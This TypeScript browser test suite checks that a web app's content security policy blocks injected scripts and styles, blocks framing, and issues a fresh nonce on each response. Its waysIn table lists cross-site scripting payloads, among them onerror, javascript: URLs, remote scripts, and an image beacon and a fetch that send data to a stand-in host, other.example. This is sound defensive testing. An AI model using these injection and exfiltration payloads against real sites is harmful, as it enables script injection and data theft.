// The content security policy in a real browser: nothing that is written into a page runs or paints, and nothing of
// ours needs it to. (Every other story fails on a violation too: e2e/browser.ts counts it among the troubles.)

import assert from 'node:assert/strict'
import { after, afterEach, before, describe, it } from 'node:test'
import type { Page } from 'playwright-core'
import { lantian } from '../server/test-county.ts'
import { noBrowser, phone, sees, until } from './browser.ts'
import { form, heading, inQueue, openFromQueue, pressOffered } from './desk-pages.ts'
import { openStage, type Stage } from './stage.ts'

describe('a page at the edge', { skip: noBrowser }, () => {
  let stage: Stage
  before(async () => {
    stage = await openStage('edge')
  })
  afterEach(() => stage?.closeWindows())
  after(() => stage?.stop())

  const faces: [name: string, open: () => Promise<Page>][] = [
    [
      'of residents',
      async () => {
        const page = await stage.open(phone)
        await page.goto('/')
        await sees(page.getByRole('heading', { name: '您的事在哪个地方？' }))
        return page
      },
    ],
    [
      'of the desk',
      async () => {
        const page = await stage.openAs('lt-intake')
        await page.goto('/desk/')
        await sees(page.getByRole('searchbox'))
        return page
      },
    ],
  ]

  for (const [name, open] of faces) {
    it(`${name} runs no script that somebody writes into it, in any of the ways there are`, async () => {
      const page = await open()
      assert.deepEqual(stage.takeTroubles(), [], 'the page itself needs none of this')
      for (const [what, way] of Object.entries(waysIn)) {
        await page.evaluate(way)
        await until(
          async () => stage.takeTroubles().some((one) => one.includes('security policy')),
          `for ${what} to be refused`,
        )
      }
      assert.equal(await page.evaluate('window.ran'), undefined)
    })

    it(`${name} is painted by no style that somebody writes into it`, async () => {
      const page = await open()
      stage.takeTroubles()
      await page.evaluate(
        `document.body.insertAdjacentHTML('beforeend', '<style>body { opacity: 0.5 }</style><i id="own" style="color: rgb(1, 2, 3)">x</i>')`,
      )
      assert.equal(await page.evaluate('getComputedStyle(document.body).opacity'), '1')
      assert.notEqual(
        await page.evaluate(`getComputedStyle(document.getElementById('own')).color`),
        'rgb(1, 2, 3)',
      )
      assert.match(stage.takeTroubles().join(), /security policy: style-src/)
    })

    it(`${name} cannot be shown in the frame of another page`, async () => {
      const page = await open()
      stage.takeTroubles()
      const address = page.url()
      await page.route('**/frame', (route) =>
        route.fulfill({ contentType: 'text/html', body: `<iframe src="${address}"></iframe>` }),
      )
      await page.goto('/frame')
      await until(
        async () => stage.takeTroubles().join().includes('frame-ancestors'),
        'for the frame to be refused',
      )
      assert.equal(await page.frames()[1]?.evaluate('document.getElementById("root")'), null)
    })
  }

  it('of the desk carries a nonce of its own each time, which scripts cannot read from its markup', async () => {
    const nonces = new Set<string>()
    for (const path of ['/desk', '/desk/', '/desk/matters/none', '/desk/index.html', '/desk/']) {
      const reply = await fetch(`${stage.address}${path}`)
      const policy = reply.headers.get('content-security-policy') ?? ''
      const nonce = /style-src 'self' 'nonce-([\w-]{20,})'/.exec(policy)?.[1] ?? ''
      assert.ok((await reply.text()).includes(`nonce="${nonce}"`), path)
      assert.doesNotMatch(policy, /unsafe/)
      assert.match(policy, /script-src 'self';/)
      assert.equal(reply.headers.get('cache-control'), 'no-store')
      nonces.add(nonce)
    }
    assert.equal(nonces.size, 5)
    const page = await stage.openAs('lt-intake')
    await page.goto('/desk/')
    await sees(page.getByRole('searchbox'))
    assert.deepEqual(
      await page.evaluate(
        `[...document.querySelectorAll('[nonce]')].map((it) => it.getAttribute('nonce')).filter(Boolean)`,
      ),
      [],
    )
  })

  it('of the desk looks as it should: what its components write while they run is let in', async () => {
    const { id, number } = await stage.county.raise('handling', { area: '610122101' })
    const page = await stage.openAs('lt-supervisor')
    await page.goto(`/desk/?view=all&open=yes`)
    await sees(inQueue(page, number))
    await page.goto(`/desk/matters/${id}`)
    await sees(heading(page, number))
    await pressOffered(page, '改派')
    await sees(form(page))
    assert.equal(
      await page.evaluate(`getComputedStyle(document.body).overflowY`),
      'hidden',
      'the page behind a drawer stands still',
    )
    assert.ok(Number(await page.evaluate(`document.querySelectorAll('style').length`)) > 3)
    assert.deepEqual(stage.takeTroubles(), [])
    await stage.moveTo('2026-03-06T02:00:00.000Z', lantian)
    const own = await stage.openAs('lt-county-investment')
    await openFromQueue(own, number)
    assert.deepEqual(stage.takeTroubles(), [])
  })
})

/** What a hole in a page would be used for. */
const waysIn: Record<string, string> = {
  'a script element': `{ const it = document.createElement('script'); it.textContent = 'window.ran = 1'; document.body.append(it) }`,
  'an attribute': `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.ran = 2">')`,
  'a javascript: address': `{ const it = document.createElement('a'); it.href = 'javascript:window.ran = 3'; document.body.append(it); it.click() }`,
  'a script of another host': `{ const it = document.createElement('script'); it.src = 'https://other.example/x.js'; document.body.append(it) }`,
  'a script in data:': `{ const it = document.createElement('script'); it.src = 'data:text/javascript,window.ran=4'; document.body.append(it) }`,
  'a base address': `{ const it = document.createElement('base'); it.href = 'https://other.example/'; document.head.append(it) }`,
  'an object': `{ const it = document.createElement('object'); it.data = 'https://other.example/x'; document.body.append(it) }`,
  'a form to elsewhere': `{ const it = document.createElement('form'); it.action = 'https://other.example/'; it.method = 'post'; document.body.append(it); it.submit() }`,
  'a picture that tells': `{ const it = new Image(); it.src = 'https://other.example/?' + document.title }`,
  'a call that tells': `fetch('https://other.example/').catch(() => {})`,
}
